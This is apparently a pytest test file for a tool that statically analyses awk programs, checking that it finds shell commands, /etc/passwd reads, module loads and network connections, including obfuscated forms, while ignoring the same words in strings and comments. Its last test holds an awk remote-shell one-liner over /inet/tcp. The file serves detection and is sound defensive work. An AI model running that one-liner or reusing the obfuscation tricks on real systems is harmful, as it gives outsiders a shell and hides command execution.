"""awk programs: what they start, open and load."""

import pytest

from interposer_argv.reading import GrammarError
from interposer_argv.scripts import read
from interposer_shell.word import Unknown, Word, literal

pytestmark = pytest.mark.suite("scripts")

FINDS = {
    "system": ('BEGIN{system("id")}', [("shell", "id")]),
    "system-with-blank": ('BEGIN{system ("id")}', [("shell", "id")]),
    "system-as-pattern": ('system("id")', [("shell", "id")]),
    "system-in-namespace": ('BEGIN{awk::system("id")}', [("shell", "id")]),
    "system-of-parts": ('BEGIN{system("i" "d")}', [("shell", "id")]),
    "system-of-escapes": (r'BEGIN{system("\151\x64")}', [("shell", "id")]),
    "system-over-two-lines": ('BEGIN{system("i\\\nd")}', [("shell", "id")]),
    "system-of-a-variable": ('BEGIN{c = "id"; system(c)}', [("shell", "id")]),
    "system-of-a-chain": ('BEGIN{a = "i"; c = a "d"; system(c)}', [("shell", "id")]),
    "system-of-the-record": ("{system($0)}", [("shell", None)]),
    "system-of-variable-from-outside": ("{system(c)}", [("shell", None)]),
    "system-of-variable-set-twice": ('{c = "ls"; c = $1; system(c)}', [("shell", None)]),
    "system-of-variable-of-another-rule": ('BEGIN{c = "ls"} {system(c)}', [("shell", None)]),
    "system-of-variable-set-on-a-condition": ('{if ($1) c = "ls"; system(c)}', [("shell", None)]),
    "system-before-the-assignment": ('{system(c); c = "ls"}', [("shell", None)]),
    "sprintf-keeps-its-text": ('{system(sprintf("100%% %s", $1))}', [("shell", None)]),
    "pipe-into-getline": ('BEGIN{"id" | getline}', [("shell", "id")]),
    "pipe-into-getline-in-a-loop": ('BEGIN{while (("id" | getline x) > 0) print x}', [("shell", "id")]),
    "concatenation-into-getline-both-ways": ('BEGIN{"echo " "id" | getline}', [("shell", "echo id"), ("shell", "id")]),
    "grouped-into-getline": ('BEGIN{("echo " "id") | getline}', [("shell", "echo id")]),
    "coprocess": ('BEGIN{print 1 |& "bc"; "bc" |& getline}', [("shell", "bc"), ("shell", "bc")]),
    "print-pipe": ('{print | "sort"}', [("shell", "sort")]),
    "printf-pipe": ('{printf "%s", $1 | "sort -n"}', [("shell", "sort -n")]),
    "printf-group-pipe": ('{printf("%s", $1) | "sort"}', [("shell", "sort")]),
    "print-pipe-concatenation": ('{print $1 | "sort" " -n"}', [("shell", "sort -n")]),
    "print-pipe-of-a-record": ("{print | $2}", [("shell", None)]),
    "indirect-call": ('BEGIN{f = "system"; @f("id")}', [("shell", "id")]),
    "indirect-call-of-unknown": ("{@f($1)}", [("shell", None)]),
    "print-to-file": ('{print > "out.txt"}', [("write", "out.txt")]),
    "print-append": ('{print $1, $2 >> "out.txt"}', [("write", "out.txt")]),
    "print-to-computed-file": ('{print > $1 ".txt"}', [("write", None)]),
    "print-to-either-file": ('{print $1 > ($2 ? "a" : "b")}', [("write", None)]),
    "getline-file": ('BEGIN{while ((getline line < "/etc/passwd") > 0) print line}', [("read", "/etc/passwd")]),
    "getline-into-element": ('BEGIN{getline a[1] < "f"}', [("read", "f")]),
    "argv": ('BEGIN{ARGV[1] = "/etc/passwd"}', [("read", "/etc/passwd")]),
    "load": ('@load "fork"\nBEGIN{fork()}', [("load", "fork")]),
    "include": ('@include "lib.awk"\n{f()}', [("load", "lib.awk")]),
    "network-client": ('BEGIN{s = "/inet/tcp/0/h.example/80"; print "x" |& s}', [("host", "h.example/80")]),
    "regex-then-system": ('/a"/ {system("id")} /"/', [("shell", "id")]),
    "division-then-system": ('{x = a / 2; system("id"); y = 1 / 2}', [("shell", "id")]),
    "regex-behind-if": ('{if (x) /"/ ; system("id"); z = /"/}', [("shell", "id")]),
    "comment-with-quote": ('# it\'s "\nBEGIN{system("id")} # "', [("shell", "id")]),
    "print-field": ("{print $1}", []),
    "comparison": ("$3 > 5 {print $1}", []),
    "comparison-in-print": ("{print (1 > 2), ($1 > 3)}", []),
    "words-in-strings": ('{print "system(\\"id\\") | getline > out"}', []),
    "words-in-a-pattern": ("/system|getline > x/ {n++}", []),
    "words-in-a-comment": ('{print} # system("id")', []),
    "alternation": ("$1 ~ /a|b/ && !/c|getline/ {print}", []),
    "standard-streams": ('{print > "/dev/stderr"; print > "/dev/stdout"; print > "/dev/fd/3"; print > "-"}', []),
    "close": ('END{close("sort"); fflush("x")}', []),
    "environ": ('BEGIN{print ENVIRON["HOME"]}', []),
    "slash-in-brackets": ('{gsub(/[/]/, ""); print}', []),
    "plain-getline": ("{getline; print; getline x}", []),
    "arrays": ("{a[$1]++; b[$2] += $3} END{for (k in a) print k, a[k], b[k] / a[k]}", []),
    "or": ("NR > 1 || /x/ {print}", []),
}
REJECTED = ['BEGIN{print "a', "/a", "{print", "print}", '{print "x" > "/f}', "BEGIN{print `x`}", "{print 'x'}", "(}"]


def listed(text):
    """Kind and text of what `text` does, effects without a value aside."""
    return [(entry.slot.kind, entry.words[0].text) for entry in read("awk", literal(text)) if entry.does is None]


@pytest.mark.parametrize("name", FINDS)
def test_commands_files_and_loads_are_found_and_data_is_not(name):
    """Every construct that opens something is found; the same words in strings, patterns and comments are data."""
    text, expected = FINDS[name]

    assert listed(text) == expected


@pytest.mark.parametrize("text", REJECTED)
def test_what_awk_rejects_is_an_error(text):
    """A program that awk itself rejects is a GrammarError with code `script`."""
    with pytest.raises(GrammarError) as caught:
        read("awk", literal(text))

    assert caught.value.code == "script"


def test_the_environment_stays_a_named_unknown():
    """A command taken from ENVIRON keeps the variable's name."""
    (entry,) = read("awk", literal('BEGIN{system("ls " ENVIRON["D"])}'))

    assert [(part if isinstance(part, str) else (part.why, part.name)) for part in entry.words[0].parts] == [
        "ls ",
        ("env", "D"),
    ]


def test_an_unknown_piece_stays_in_the_found_word():
    """A shell variable inside an awk string stays an unknown piece of it."""
    name = Unknown("env", "$X", "X")

    (entry,) = read("awk", Word(('{print > "', name, '.txt"}')))

    assert entry.words == (Word((name, ".txt")),)


@pytest.mark.parametrize("to", ['"/inet/tcp/0/h/1"', '"/inet/tcp/4444/0/0"'])
def test_commands_from_a_connection_are_a_remote_shell(to):
    """A program that takes commands from a network file is a shell for somebody else."""
    text = f"BEGIN{{s = {to}; while ((s |& getline c) > 0) while ((c |& getline) > 0) print $0 |& s}}"

    does = [(entry.does.effect, entry.does.detail) for entry in read("awk", literal(text)) if entry.does]

    assert ("escape", "remote-shell") in does
